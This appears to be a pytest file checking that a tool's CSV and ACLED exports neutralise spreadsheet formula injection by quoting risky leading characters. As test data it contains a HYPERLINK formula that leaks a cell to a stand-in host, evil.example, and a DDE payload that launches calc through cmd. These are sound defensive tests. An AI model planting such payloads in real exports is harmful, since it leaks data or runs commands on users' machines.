"""CSV and ACLED exports never hand a spreadsheet a formula: text cells starting with `=`, `+`,
`-`, `@`, a tab or a carriage return get a leading `'` (OWASP, CSV injection); numbers the
exporter writes (a negative longitude) stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from crosscheck.export import acled as acled_export
from crosscheck.export import csv as csv_export
from crosscheck.export.csv import FORMULA_STARTS, safe_cell

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formula_starts_are_the_owasp_list() -> None:
    assert sorted(FORMULA_STARTS) == sorted(PREFIXES)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_safe_cell_neutralises_text_only(prefix: str) -> None:
    assert safe_cell(f"{prefix}1+2") == f"'{prefix}1+2"
    assert safe_cell("plain text") == "plain text"
    assert safe_cell("") == ""
    assert safe_cell(-3.7) == -3.7 and safe_cell(-12) == -12  # numbers the exporter writes
    assert safe_cell("'=already quoted") == "'=already quoted"


def _data(prefix: str) -> dict[str, Any]:
    """An export (as `export_ledger` gives it) whose text fields all start with `prefix`."""
    text = f"{prefix}cmd|' /C calc'!A0 protesters marched"
    return {
        "documents": [
            {
                "id": "d1",
                "outlet": f"{prefix}Outlet",
                "title": f"{prefix}2+3",
                "url": HYPERLINK if prefix == "=" else f"{prefix}http://x.example/",
                "published": "2031-08-02",
                "author": f"{prefix}SUM(A1:A9)",
                "text": text,
            }
        ],
        "places": [
            {
                "id": "geonames:1",
                "name": f"{prefix}Town",
                "country": "ES",
                "admin1": "Madrid",
                "lat": 40.4,
                "lon": -3.7,
                "feature": "city",
                "mentions": [],
            }
        ],
        "entities": [],
        "figures": [
            {"id": "f1", "doc": "d1", "span": None, "value": -5.0, "low": -6, "claim": "c1", "category": "money"}
        ],
        "clusters": [],
        "claims": [
            {
                "id": "c1",
                "doc": "d1",
                "span": {"doc": "d1", "start": 0, "end": len(text), "text": text},
                "sentence": {"text": text},
                "source": {"text": f"{prefix}the monitor", "kind": "named"},
                "event_type": "PROTEST",
                "polarity": "positive",
                "certainty": "certain",
                "cluster": None,
                "places": ["geonames:1"],
                "entities": [],
                "figures": [],
                "when": None,
            }
        ],
    }


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _file(path: Path) -> str:
    with path.open(newline="", encoding="utf-8") as fh:  # keep a carriage return inside a cell
        return fh.read()


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(tuple(PREFIXES)) or _is_number(cell), (column, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("prefix", PREFIXES)
def test_csv_export_neutralises_each_prefix(prefix: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "iter_part", lambda ledger, table: iter(_data(prefix).get(table) or []))
    csv_export.write_csv(None, tmp_path)  # type: ignore[arg-type]  # iter_part is replaced
    read = {t: _cells(_file(tmp_path / f"{t}.csv")) for t in ("documents", "places", "claims")}
    for rows in read.values():
        _no_formula(rows)
    doc = read["documents"][0]
    assert doc["title"] == f"'{prefix}2+3" and doc["outlet"] == f"'{prefix}Outlet"
    assert doc["author"] == f"'{prefix}SUM(A1:A9)" and doc["text"].startswith(f"'{prefix}cmd|")
    if prefix == "=":
        assert doc["url"] == "'" + HYPERLINK  # shown as text, never run
    claim = read["claims"][0]
    assert claim["text"].startswith(f"'{prefix}") and claim["source_text"] == f"'{prefix}the monitor"
    place = read["places"][0]
    assert (place["name"], place["lon"], place["lat"]) == (f"'{prefix}Town", "-3.7", "40.4")  # numbers stay
    figures = _cells(_file(tmp_path / "figures.csv"))
    assert (figures[0]["value"], figures[0]["low"]) == ("-5.0", "-6")
    assert json.loads(read["claims"][0]["places"]) == ["geonames:1"]  # JSON cells untouched


@pytest.mark.parametrize("prefix", PREFIXES)
def test_acled_export_neutralises_each_prefix(prefix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(acled_export, "export_parts_lazy", lambda ledger: _data(prefix))
    out = io.StringIO()
    acled_export.write_acled(None, out)  # type: ignore[arg-type]  # export_parts_lazy is replaced
    rows = _cells(out.getvalue())
    assert len(rows) == 1
    _no_formula(rows)
    row = rows[0]

    def written(text: str) -> str:  # ACLED cells are one line: a leading tab or CR is only space
        return text.strip() if prefix.isspace() else "'" + text

    assert row["source"] == written(f"{prefix}Outlet")
    assert row["notes"].startswith(written(f"{prefix}cmd|"))
    assert row["attribution"] == written(f"{prefix}the monitor")
    assert row["location"] == written(f"{prefix}Town")
    assert row["url"] == written(HYPERLINK if prefix == "=" else f"{prefix}http://x.example/")
    assert (row["longitude"], row["latitude"], row["fatalities"]) == ("-3.7", "40.4", "0")  # numbers stay


def test_cli_csv_export_of_a_hostile_report(tmp_path: Path, cli: Any) -> None:
    """End to end: a report whose title, author and URL are formulas, added without analysis."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "r.txt").write_text("-1 dead after storm hits the coast, officials said.\n", encoding="utf-8")
    meta = {"outlet": "@SUM(1+1)", "title": "+cmd|' /C calc'!A0", "url": HYPERLINK}
    (folder / "r.meta.json").write_text(json.dumps(meta), encoding="utf-8")
    ledger = tmp_path / "l.db"
    assert cli("--ledger", ledger, "add", "--no-analyse", folder).code == 0
    assert cli("--ledger", ledger, "export", "--format", "csv", "-o", tmp_path / "out").code == 0
    doc = _cells(_file(tmp_path / "out" / "documents.csv"))[0]
    assert doc["outlet"] == "'@SUM(1+1)" and doc["title"] == "'+cmd|' /C calc'!A0"
    assert doc["text"].startswith("'-1 dead")
    assert doc["url"] in ("'" + HYPERLINK, "")  # stored as given (or refused by the sidecar check)
